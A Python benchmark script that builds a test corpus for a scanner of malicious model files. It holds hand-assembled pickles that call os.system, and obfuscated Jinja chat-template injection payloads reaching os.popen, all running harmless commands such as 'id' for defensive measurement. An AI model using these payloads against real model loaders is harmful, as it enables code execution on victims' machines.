"""Held-out model corpus, written blind (issue #19): ~100 files in six classes, scanned by model_formats.

The corpus was written without reading the scanner (plugins/module_utils/pickle_scan.py, model_formats.py)
or its own corpora (tests/unit/bypass_corpus.py, model_corpus.py, test_model_formats.py), from what the
loaders do (pickle.load, torch.load, numpy.load, joblib.load, pandas.read_pickle, Keras 3 load_model,
llama-cpp-python's Jinja chat templates) and from public write-ups (picklescan/modelscan/fickling
advisories, JFrog, Sonatype, ProtectAI and Trail of Bits posts on malicious pickles, Keras safe_mode
bypasses CVE-2025-1550/8747/12058, llama-cpp-python CVE-2024-34359).

Classes: parity (the scanner reads a file differently from the loader), denylist (callables a deny
list may forget), text (a byte/regex search where a parser is needed), crash (malformed input),
compression (formats the loader decompresses), benign (real dumps made with scikit-learn 1.9, joblib
1.6, numpy 2.4 and pandas 3.1 in a throwaway venv, embedded below; hand-built torch, safetensors and
GGUF files with public chat templates written from memory).

Expected verdicts: "malicious" when loading runs code or commands, writes or reads files, or opens a
connection; "suspicious" for unknown code or a file the loader could not parse; "clean" otherwise.
Nothing here is executed: pickles are assembled opcode by opcode or were dumped from __reduce__ objects
(pickling a reference does not call it); commands are harmless (id, touch /tmp/heldout-pwned) and any
address is 127.0.0.1.

Run from the repository root with the project's venv:   .venv/bin/python benchmarks/heldout_corpus.py
It prints per-class and total counts and every file whose verdict differs from the expectation. It
asserts nothing: it is a measurement.
"""
import base64
import bz2
import collections
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import signal
import struct
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MAL, SUS, CLEAN = 'malicious', 'suspicious', 'clean'
CLASSES = ('parity', 'denylist', 'text', 'crash', 'compression', 'benign')
CMD = 'touch /tmp/heldout-pwned'


# ---------------------------------------------------------------- pickle opcodes, assembled by hand
def ustr(text):
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = text.encode('utf-8')
    if len(raw) < 256:
        return b'\x8c' + bytes([len(raw)]) + raw
    return b'X' + struct.pack('<I', len(raw)) + raw


def val(obj):
    """A small Python value as pickle opcodes (str, bytes, int, None, bool, list, tuple, dict)."""
    if obj is None:
        return b'N'
    if obj is True or obj is False:
        return b'\x88' if obj else b'\x89'
    if isinstance(obj, int):
        return b'J' + struct.pack('<i', obj)
    if isinstance(obj, str):
        return ustr(obj)
    if isinstance(obj, bytes):
        return b'C' + bytes([len(obj)]) + obj if len(obj) < 256 else b'B' + struct.pack('<I', len(obj)) + obj
    if isinstance(obj, tuple):
        return b'(' + b''.join(val(item) for item in obj) + b't'
    if isinstance(obj, list):
        return b']' + (b'(' + b''.join(val(item) for item in obj) + b'e' if obj else b'')
    if isinstance(obj, dict):
        return b'}' + (b'(' + b''.join(val(k) + val(v) for k, v in obj.items()) + b'u' if obj else b'')
    if isinstance(obj, Raw):
        return obj.code
    raise TypeError(obj)


class Raw:
    """Opcodes inserted as they are (a nested call as an argument)."""

    def __init__(self, code):
        self.code = code


def sglobal(module, name):
    """STACK_GLOBAL (protocol 4; dotted names resolve)."""
    return ustr(module) + ustr(name) + b'\x93'


def call(func, *args):
    """func(*args) through REDUCE; func is opcodes that push a callable."""
    return func + b'(' + b''.join(val(arg) for arg in args) + b'tR'


def p4(body):
    return b'\x80\x04' + body + b'.'


def p4call(module, name, *args):
    return p4(call(sglobal(module, name), *args))


SYSTEM_P0 = b'cposix\nsystem\n(V' + CMD.encode() + b'\ntR'           # protocol 0 text, no STOP
SYSTEM_P2 = b'\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.'


# ---------------------------------------------------------------- containers
def zip_bytes(members, compression=zipfile.ZIP_STORED, stream=False):
    """members: list of (name, bytes); duplicate names allowed. stream=True writes data descriptors."""
    buf = io.BytesIO()

    class Unseekable(io.RawIOBase):
        def writable(self):
            return True

        def write(self, data):
            return buf.write(data)

    target = Unseekable() if stream else buf
    with zipfile.ZipFile(target, 'w', compression) as zf:
        for name, data in members:
            if stream:
                with zf.open(zipfile.ZipInfo(name, (2024, 7, 1, 0, 0, 0)), 'w') as out:
                    out.write(data)
            else:
                info = zipfile.ZipInfo(name, (2024, 7, 1, 0, 0, 0))
                info.compress_type = compression
                with warnings.catch_warnings():
                    warnings.simplefilter('ignore')
                    zf.writestr(info, data)
    return buf.getvalue()


def torch_zip(data_pkl, prefix='archive', extra=(), compression=zipfile.ZIP_STORED, stream=False):
    members = [(prefix + '/data.pkl', data_pkl), (prefix + '/byteorder', b'little'), (prefix + '/data/0', struct.pack('<4f', 1, 2, 3, 4))]
    members += list(extra)
    members += [(prefix + '/version', b'3\n'), (prefix + '/.data/serialization_id', b'1234567890123456789012345678901234567890')]
    return zip_bytes(members, compression, stream)


STATE_DICT_PKL = (b'\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01(X\t\x00\x00\x00fc.weightq\x02'
                  b'ctorch._utils\n_rebuild_tensor_v2\nq\x03((X\x07\x00\x00\x00storageq\x04ctorch\nFloatStorage\nq\x05'
                  b'X\x01\x00\x00\x000q\x06X\x03\x00\x00\x00cpuq\x07K\x04tq\x08QK\x00K\x02K\x02\x86q\tK\x02K\x01\x86q\n'
                  b'\x89h\x00)Rq\x0btq\x0cRq\ru}q\x0eX\t\x00\x00\x00_metadataq\x0fh\x00)Rq\x10X\x00\x00\x00\x00q\x11'
                  b'}q\x12X\x07\x00\x00\x00versionq\x13K\x01ssb.')


def npy(descr, shape, body, version=(1, 0)):
    header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    raw = header.encode('latin1' if version < (3, 0) else 'utf-8')
    prefix = 10 if version == (1, 0) else 12
    pad = 64 - (prefix + len(raw) + 1) % 64
    raw += b' ' * (pad % 64) + b'\n'
    size = struct.pack('<H', len(raw)) if version == (1, 0) else struct.pack('<I', len(raw))
    return b'\x93NUMPY' + bytes(version) + size + raw + body


def safetensors(header, data=b'', raw_header=None):
    text = raw_header if raw_header is not None else json.dumps(header, separators=(',', ':')).encode()
    text += b' ' * (-len(text) % 8)
    return struct.pack('<Q', len(text)) + text + data


def gstr(text):
    raw = text.encode('utf-8') if isinstance(text, str) else text
    return struct.pack('<Q', len(raw)) + raw


def gguf(arch, template=None, extra=(), version=3):
    """A small GGUF v3 file: architecture, name, a token list, chat template(s), one F32 tensor."""
    kvs = [('general.architecture', 8, gstr(arch)), ('general.name', 8, gstr(arch + '-heldout')),
           ('general.alignment', 4, struct.pack('<I', 32)), ('tokenizer.ggml.model', 8, gstr('gpt2')),
           ('tokenizer.ggml.tokens', 9, struct.pack('<IQ', 8, 4) + b''.join(gstr(t) for t in ('<s>', '</s>', 'a', 'b')))]
    if template is not None:
        kvs.append(('tokenizer.chat_template', 8, gstr(template)))
    kvs += list(extra)
    out = b'GGUF' + struct.pack('<IQQ', version, 1, len(kvs))
    for key, kind, value in kvs:
        out += gstr(key) + struct.pack('<I', kind) + value
    out += gstr('token_embd.weight') + struct.pack('<IQIQ', 1, 4, 0, 0)
    out += b'\x00' * (-len(out) % 32)
    return out + struct.pack('<4f', .5, .25, .125, 0)


KERAS_METADATA = b'{"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}'
FAKE_H5 = b'\x89HDF\r\n\x1a\n' + b'\x00' * 88


def keras_config(layer_json):
    """A Keras 3 Sequential config.json (text) with one extra layer, given as JSON text."""
    return ('{"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": true, '
            '"dtype": "float32", "layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": '
            '{"batch_shape": [null, 4], "dtype": "float32", "sparse": false, "name": "input_layer"}, "registered_name": null}, '
            + layer_json +
            ', {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "trainable": true, "dtype": "float32", '
            '"units": 2, "activation": "linear", "use_bias": true, "kernel_initializer": {"module": "keras.initializers", '
            '"class_name": "GlorotUniform", "config": {"seed": null}, "registered_name": null}}, "registered_name": null, '
            '"build_config": {"input_shape": [null, 4]}}]}, "registered_name": null, "build_config": {"input_shape": [null, 4]}, '
            '"compile_config": null}')


def keras_zip(config_bytes):
    return zip_bytes([('metadata.json', KERAS_METADATA), ('config.json', config_bytes), ('model.weights.h5', FAKE_H5)])


LAMBDA_CODE = base64.b64encode(marshal.dumps(compile('lambda x: x * 2', '<heldout>', 'eval'))).decode()
LAMBDA_CFG = ('{"name": "lambda", "trainable": true, "dtype": "float32", "function": {"class_name": "__lambda__", '
              '"config": {"code": "%s", "defaults": null, "closure": null}}, "arguments": {}}' % LAMBDA_CODE)


# ---------------------------------------------------------------- public chat templates, written from memory
PHI3 = ("{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\n' + message['content'] + '<|end|>\n'}}"
        "{% elif message['role'] == 'user' %}{{'<|user|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'assistant' %}"
        "{{'<|assistant|>\n' + message['content'] + '<|end|>\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}"
        "{{ '<|assistant|>\n' }}{% else %}{{ eos_token }}{% endif %}")

DEEPSEEK_R1 = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}"
    "{{bos_token}}{{ns.system_prompt}}"
    "{%- for message in messages %}"
    "{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}"
    "{%- if message['role'] == 'assistant' and message['content'] is none %}{%- set ns.is_tool = false -%}"
    "{%- for tool in message['tool_calls']%}{%- if not ns.is_first %}"
    "{{'<\uff5cAssistant\uff5c><\uff5ctool\u2581calls\u2581begin\uff5c><\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>'"
    " + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}"
    "{%- set ns.is_first = true -%}{%- else %}"
    "{{'\\n' + '<\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json'"
    " + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}"
    "{{'<\uff5ctool\u2581calls\u2581end\uff5c><\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endfor %}{%- endif %}"
    "{%- if message['role'] == 'assistant' and message['content'] is not none %}"
    "{%- if ns.is_tool %}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>' + message['content'] + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}"
    "{%- set ns.is_tool = false -%}"
    "{%- else %}{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}"
    "{{'<\uff5cAssistant\uff5c>' + content + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endif %}"
    "{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if ns.is_output_first %}"
    "{{'<\uff5ctool\u2581outputs\u2581begin\uff5c><\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}"
    "{%- set ns.is_output_first = false %}{%- else %}"
    "{{'\\n<\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}"
    "{%- endif %}{%- endif %}{%- endfor -%}"
    "{% if ns.is_tool %}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>'}}{% endif %}"
    "{% if add_generation_prompt and not ns.is_tool %}{{'<\uff5cAssistant\uff5c><think>\\n'}}{% endif %}")

COMMAND_R_TOOLS = '''{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {
  "string": "str",
  "number": "float",
  "integer": "int",
  "boolean": "bool"
} %}
{%- if basic_type_map[json_spec.type] is defined %}
    {{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}
    {{- "List[" +  json_to_python_type(json_spec.items) + "]"}}
{%- elif json_spec.type == "object" %}
    {{- "Dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']'}}
{%- elif json_spec.type is iterable %}
    {{- "Union[" }}
    {%- for t in json_spec.type %}
      {{- json_to_python_type({"type": t}) }}
      {%- if not loop.last %}
        {{- "," }}
    {%- endif %}
    {%- endfor %}
    {{- "]" }}
{%- else %}
    {{- "Any" }}
{%- endif %}
{%- endmacro %}
{{ bos_token }}{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}\
{% else %}{% set loop_messages = messages %}{% set system_message = '## Task and Context\\nYou help people answer their questions.' %}{% endif %}\
{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' }}{{ '# Safety Preamble' }}{{ '\\nThe instructions in this section override those in the task description.' }}\
{{ '\\n\\n# System Preamble' }}{{ '\\n## Basic Rules' }}{{ '\\n\\n# User Preamble' }}{{ '\\n' + system_message }}\
{{'\\n\\n## Available Tools\\nHere is a list of tools that you have available to you:\\n\\n'}}\
{%- for tool in tools %}
    {%- if loop.index0 != 0 %}
        {{- '\\n\\n'}}
    {%- endif %}
    {{- '```python\\ndef ' + tool.name + '('}}
    {%- for param_name, param_fields in tool.parameter_definitions|items %}
        {%- if loop.index0 != 0 %}
            {{- ', '}}
        {%- endif %}
        {{- param_name + ': ' }}
        {%- if not param_fields.required %}
            {{- 'Optional[' + json_to_python_type(param_fields) + '] = None'}}
        {%- else %}
            {{- json_to_python_type(param_fields) }}
        {%- endif %}
    {%- endfor %}
    {{- ') -> List[Dict]:\\n    """'}}
    {{- tool.description }}
    {{- '\\n    """\\n    pass\\n```'}}
{%- endfor %}
{{ '<|END_OF_TURN_TOKEN|>'}}{% for message in loop_messages %}{% set content = message['content'] %}\
{% if message['role'] == 'user' %}{{ '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + content.strip() + '<|END_OF_TURN_TOKEN|>' }}\
{% elif message['role'] == 'system' %}{{ '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' + content.strip() + '<|END_OF_TURN_TOKEN|>' }}\
{% elif message['role'] == 'assistant' %}{{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>'  + content.strip() + '<|END_OF_TURN_TOKEN|>' }}{% endif %}{% endfor %}\
{{'<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>Write \\'Action:\\' followed by a json-formatted list of actions.'}}\
{{'```json\\n[\\n    {\\n        "tool_name": title of the tool in the specification,\\n'}}\
{{'        "parameters": a dict of parameters\\n    }\\n]```<|END_OF_TURN_TOKEN|>'}}\
{% if add_generation_prompt %}{{ '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}{% endif %}'''

LLAMA31_TOOLS = """{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not tools_in_user_message is defined %}
    {%- set tools_in_user_message = true %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "26 Jul 2024" %}
    {%- endif %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}

{#- This block extracts the system message, so we can slot it into the right place. #}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}

{#- System message + builtin tools #}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if builtin_tools is defined or tools is not none %}
    {{- "Environment: ipython\\n" }}
{%- endif %}
{%- if builtin_tools is defined %}
    {{- "Tools: " + builtin_tools | reject('equalto', 'code_interpreter') | join(", ") + "\\n\\n"}}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You have access to the following functions. To call a function, please respond with JSON for a function call." }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.' }}
    {{- "Do not use variables.\\n\\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\\n\\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}

{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {%- if builtin_tools is defined and tool_call.name in builtin_tools %}
            {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
            {{- "<|python_tag|>" + tool_call.name + ".call(" }}
            {%- for arg_name, arg_val in tool_call.arguments | items %}
                {{- arg_name + '="' + arg_val + '"' }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- endif %}
                {%- endfor %}
            {{- ")" }}
        {%- else  %}
            {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
            {{- '{"name": "' + tool_call.name + '", ' }}
            {{- '"parameters": ' }}
            {{- tool_call.arguments | tojson }}
            {{- "}" }}
        {%- endif %}
        {%- if builtin_tools is defined %}
            {{- "<|eom_id|>" }}
        {%- else %}
            {{- "<|eot_id|>" }}
        {%- endif %}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif %}
"""

# SSTI payloads (CVE-2024-34359 class) that never write two underscores side by side
T_FORMAT = ("{% set g = '%c%c%s%c%c'|format(95, 95, 'globals', 95, 95) %}{% set i = '%c%c%s%c%c'|format(95, 95, 'init', 95, 95) %}"
            "{% for message in messages %}{{ message['content'] }}{% endfor %}{{ ((cycler|attr(i))|attr(g)).os.popen('id').read() }}")
T_REVERSE = "{% set s = ('_' ~ '_' ~ 'slabolg' ~ '_' ~ '_')|reverse %}{{ (lipsum|attr(s))['os'].popen('id').read() }}{{ eos_token }}"
T_MACRO = ("{% macro u(n) %}{{ '_' ~ '_' ~ n ~ '_' ~ '_' }}{% endmacro %}"
           "{% for m in messages %}{{ m.content }}{% endfor %}{{ ((joiner|attr(u('init')))|attr(u('globals')))['os'].system('id') }}")
T_OCTAL = "{{ bos_token }}{{ ((namespace|attr('\\137\\137init\\137\\137'))|attr('\\137\\137globals\\137\\137'))['os'].popen('id').read() }}"
T_UNICODE = "{{ (lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f')).os.popen('id').read() }}"
T_SELF = ("{% set ns = namespace(u='_') %}{% set ns.u = ns.u ~ ns.u %}"
          "{{ (self|attr('_TemplateReference' ~ ns.u ~ 'context')).cycler|attr(ns.u ~ 'init' ~ ns.u) }}")
T_JOIN = "{{ (((''|attr(['_', '_', 'class', '_', '_']|join))|attr(['_', '_', 'mro', '_', '_']|join))[1]|attr(['_', '_', 'subclasses', '_', '_']|join))() }}"
T_COMMENT = "{# reviewed: the old template did {{ ''.__class__.__mro__[1].__subclasses__() }}, removed #}" + PHI3


# ---------------------------------------------------------------- real dumps (zlib, base64), made by
# /tmp/ho/bin/python (numpy 2.4.6, scikit-learn 1.9.1, joblib 1.6.0, pandas 3.1.1, lz4 4.4.5, zstandard);
# the evil_* dumps hold objects whose __reduce__ returns (os.system, ("touch /tmp/heldout-pwned",)).
REAL = {
    'gboost.joblib': [
        'eNrtOws4VNv3Zpg8R+RZHhGFZJBIrldJKlEk6cFpZgxnMi8zZ5Rn9PDIKdQhPXSTknRTcpVKpJKblB5Xb0pKKpWSSrfy32dmiOr+7u/+7//7f9/9vjnfx957nb32Xnu99jprkSiXfYUo',
        'I3pQTUEEi0HlcygMjoDBprEYFCichqGjvPjUUCaDg0zjcgUIkxPuwaIKBMwwJoOPbcYskrB4zBxV4UAM8JJNRbh8AeYti5JFS4HZEJ+KMDAvt+Nb8WcbKsfiCgQYqsDihkPiriKdz0QY',
        'fCaXg6FKoQwen0EHKKEYqs5mciABlc1jMQSQgMdiIpg3EVUbDAW7hGHeBFQXB65gMMNhBArjU+kIWE380ktG8qCKAiFNjAfI6ZIAVdjUlVAYg4oI+QwB5osq4mNABALje2nhyzLZPCGg',
        'MBqA6XwGVcAYvCadzoOoLB5MHQSUY3IAqb6oCp/KCeWyIQGCs8BbBiVJZrp1NuDPJVQ+isGncQWil6r4zjjJEIcbKqJFaQWVL8LmI1gaqhFFZTFDqaKT9R9xEF/VAKGAiwAZosNUTjgD',
        'LCCLcFlgyiiHh8/1PaxQVc7ASSFwLlxMCnRcmGCMoRrLuTQWk0bhCNm8aIjHpANtADLwxYdT+Xxq9EI+lccbLHQFwFARPoaSRFgYKs8JpeJzwSSUJICpPHA04jrQ5/JDASpK8AD9UCQa',
        'wGHT/h6YS2Q6YmmpKZg/Zg6oIjhjvr6+s/vAI/rlLYNgNFSJymJxV0BsNpWHpaJ6YjpFuwEJMMM5bKCjEC0aAbzzVhPS5HDMfpkQJG020q/t2hwI4TPAycGRRJwTcxZXJiUONMAWoATk',
        'wSoi4hpJorkj+i1GNKaIgWozqaywaUwOl82ksubgoAGGkejiKRpD8fpX84j+Eao/BmyGyYn4fjsRUHEON5yJzMH7on1QxQHqceKJK3lAEYaFMqKYdFwlVIEM+dyVEMwANkzlAL1So3M5',
        'QMcA777ChjM5gCNA4aBowCUhENZ0VGGWBPb1PLJAHrjqysHA8HDOkXEBMTl0llDAjGIAKanibwZDhLQhiwNjD8XgueL1YH9vGXi+NwEOSIMXpAlpYC4JNyWgnOT+o4cK2WygZ8On4+2P',
        'PJGCAME9TjiYROIBp8LHYE1foOeSQ2K+sD6QoCI0MA1ehqoKeFS+gAFxhQhPCLZLw1VAPMAFToANYCMJiSbwONgMV2nYAh4PW8JWKDFskOrCtt8rLmyXCk/CNZL4VR/FT5dbtoOkCzsA',
        'YamIBAeJyIawP91z+cCKan3fPJdEjuWe2zaRV2h1y0b6nZIaJGEhBHyOQORsSbaUKRRbDLBZ+avz/m5fWW9C8qDTzh1iqHHfGKqb6LxpYuoSSdkLDAbMDTdXCkTn8hkUtpCFMMV+AlWB',
        'gL/HhcMX0hGR2/jelXjLrMM8CDRMvC1BQpLsYP/x12SlBQPt0OrXI9z2KQOGgmpNZ9CZOFcCANyfEQ4sXcAdpFWD7yiyIFJIBXoLMfh8MAdoHH41Ibh7k6MBRmLfXCL/x9fYtzfW9/fG',
        '0HsH1RSzXgykDHj2ERAkBommQXREdF7YBNWEIBowunAGB3eKQBMlr1CtoQuxEdspU+wmA0n5BIh7m7F1QAI4v8hDVhg0BdwKIqpE7iOCAeSsMVgzQB9wmY6hyuD8XDZNGBYmMm7znNOK',
        '4vOPIOdnyXZSpgaMfc+NyYrPV3lQMlVoV91xMyjQfMa5mXEVtM+uxHqXNqqaZ1L0FpZa0MvqXWc+Zzb0QbW0Mc1VV4e3QFOWjt7vqjW++SEh2zegyMokusVQhR6/M2Na6vrTubpX5p0K',
        'LUu1CHFUyiA2fHgRqvbCeMeojTsiQ8wUZBLKvjRb7FMPuhjXcGD9bxprR56LrMv/CbFuljPlb0u5qXlnS3CA8yyXC+N1Fk+MOZOhIfPHx2W3sYo3JJeRFO9As5NN2oeMe+LXKqRlaR+x',
        '15hO+JyR3Xy6bHFbV88kdNJb1Um/LdvkUW/xmiyjiWRRLecHRoVuDJ1dPtmfsE3Zr8JmQbzthlU922WXpodtDN5+btSbY+sqYnODx9qST82bCF+7XP3qdaz9mrmatsvPkJ0vGhmeDNmp',
        'nB7OU70b/0zd0sOL1/zIculOjSDhBkFyyOK58SVLkkic+aj7ksBzl7acqi1lriRbRZ/VvLPS9bfR3Io+w+579PO6baOdC1+6jDvttsNFQRF1ajDLSg62G32li5qpnnJbzrKw9angD8u3',
        'i8npvtPndY8054cYWbo820pY7Lpx+QkfmHAuzTry7Qw7fT0j11XK4WHnHyj0ov5mU5KMUc+zasof05tYbQU1CaMDutd6yU14Uqmwecp1T9n91WnDRso8V1himXYy+jjr54LPBIXrTXlZ',
        'U6cWbkvL5FB37Y/RjpnRG1dAv74xY8tFimyt5fgKn5Yl831IeqvyYlQMPR+vWjJWcYHwjF3YxTkr574ePcPiqmW1lh3f0mnBqtStPbqndQr7mJ6bD6j0UZ0MStfT7zpFX1pJU0u1P7PD',
        '9sbl6Y8/H2AXcnsTX6FyauzZWMmmOA0dpQ1vW7M/3q+6Gih4aB6bkJMRm/3wi7H19eOnaRHJE0rb5yTMCGn+sBjYSMg7Wkja6znk+6qNscph5PkHbq52DK43meWYr3skh1AWOStL9vD9',
        '3kBKz60nlc+3n8zLUD+5sFDvttG+zeept7N90o0+lBTrHirs3nSq3rrGPyLSOu/hL1YrDqgmcokXiMW/xH1qLD6/btr0gzX0y4+qBTVmPt29Pcj6Jwf3XjF28Nqd7W2qOzLeo2XJ58TL',
        'yh+LzXamv1/mrMrO2UqcpHrBoMigM755643r8pfJw1W3Xylvt7m35o/h7FiXncatNzXVuUWZQQuCFxKRESQbc7a7ocWsos0yO7S7l1kdmvdpeLCxtushzU5709mRjN1KvUv2H066KSOM',
        'KHdfcKpNeOM2ce59Xg3wyL3Z1qOHvV+2aIwx9VTdwnOfamt737ePLzsz/3ra2jX+CdPYyj37/Ep0Cuo6atdU5LgzT2xQ04krKH5s/KHD2olvJNu8dllXh3zLwmNzP1r1qWblxHyYlnnL',
        'pmyp30xrE734gHpT58dhTm6fiwOT5A84lmZtfzPWZaIy4pPQqrV90ac3FwrHa75nCY0bkmfUGmQ7dJCSzxnamvgf0+kJPtaaVN49tsW2w9FLw8tvm2fJ50nClCRCyWHWJw9HR+f0M7/H',
        'Mzhr/ToivVZQoLmjturXphxUwSoTkyqtzZi/haDPTQp0VpNkmje2WKjuNu1rK1HwuXXr5+Jkh/o3AS5/LCXC7INTPJN/D46Vawo+Xkhcd8erOtoS2px1MOOwnqLblxZdgy08N42Tsnsq',
        'EzzZxPzmSflFha/fxqoFONRQnNY/2RK4yi8xkpzj8sk66sSiQ93rr+zwL7WtTJwU72EyzGJE+QrYcdtp4UEbn/gX9XssFDi8WWviYl5bWFWFn/cqPuHede3+8ffFDaYlrgrX/WnB1zpT',
        'TxYf4J7Z3xI/X3fRpbazLA+tl71pn4br2HUqH/rlwu0orCGlI/PehCPDPF5qNna9XuCXGKjprRVXp3RVbYd55Ydcyy5K75hFK2s356POj0zNG9QnnzU6elqnNuu4muajDU8yxx85+PYn',
        '63G3tsYGzX+52//GDHe5rMai4pSHBvDSkqWxFpx017Zno51G3Swdmac9OUGvMYHy9Nf98vkPbT+ZUyONWWpv0wwTz9GdUtN+L6tTqxzJtZxHUnpeG9mh1Dduy87ojpnrH0IdK0pi9MmR',
        'Oer2N03Pbza79GFcicocYvjTQ2fW1eu11B/smN1K5I//Ep5xJajh2P5NVrE1fk6Ij6FVjO3whD6ty+2sjiU2Taw9kbW7SGWU3HwvzewAh9jJwtWL99+9eOQpY+yM6g5BxoVTs++uQkcd',
        'RSJ+t9SuSD101P3LjZN6I9uLTFa/cp/LfL5q7DH5BapO86/l5Tm67r31ohxL1a721n/3Jufa3B0sM7uNYckvk8r3HGkzfXEnOHNYjhK7TzlM/jjZ66cq4jSzoKe2rL6P+67zGP5h2c0F',
        '1xZuzztFfbVIr9GxTOe2deW0T62ta98HRZ3P/iVNd8+lZWNzbe+kL6Uu2JbS7mm3Qubslo3jJpbX8W8q7es6cmKOj/vaPbOmRmucZsTvHP3F6fGGUa8FJSd3tXTl2+uVPqoiWrroG3sa',
        'sLUjXlRllmTYL7/Ypu54r3X38qczPave05uU/IOq0zfSodq+/bblOtRsi9hUwZSCxjKt7gSSYd3zGr0ThL1N/NR446aw2shG/Z2lhcOSORWagsyciJEq6hNX29lrvm7fmuU6i8NYnusX',
        '1B1ZfS975/SHm2RlVdXLoqpyZhcGOE5N/6mAV6348wFuXOVtk0dG9rJlZy7OEdb6oYpVMoiRc8D6J7uzrHqXFm2CJoQUrCYGpwgIxKXqJrFmzPht3W8SKnXbGxLUbdb+1rQjkZrnqHR1',
        'wtvStA2LrRntqVfyUOd8j5ri8puuJJ24fOVSmd1Tmi4lBa7RiFqf1VjRREdymacNJtb6j97tKOPq+tjEfq8x9ZDjPJjMzGpCZh50sA/yiWj3bOVuqbXxK1cbv5K07OmYYvq7avLy3RfO',
        'vHywIVCgYXS2bc8bwrHce6QQXk+iz46jf/SEcepawgsbqk+sbOtutcivUp4c/aE4ZPqraVomvck0RO6mDCdkwpV2nRMf6fumhsvPeCO80ruv5zgp1cFtlPbW9X3lEzuFKYkLZLvHdyzp',
        'K7ghG16hmN/xyesdNZfrPsJOcZfChjHHDOrGfKj4fH1Rz+ZgI5rN9sb4q1/edhfHGNS73n7Hqnlpyqk6+GZ6atHr0rAbJZ3etd2/Fo5IXt053jqv4dqMbWWW6562jLl7btzCRlhV21/A',
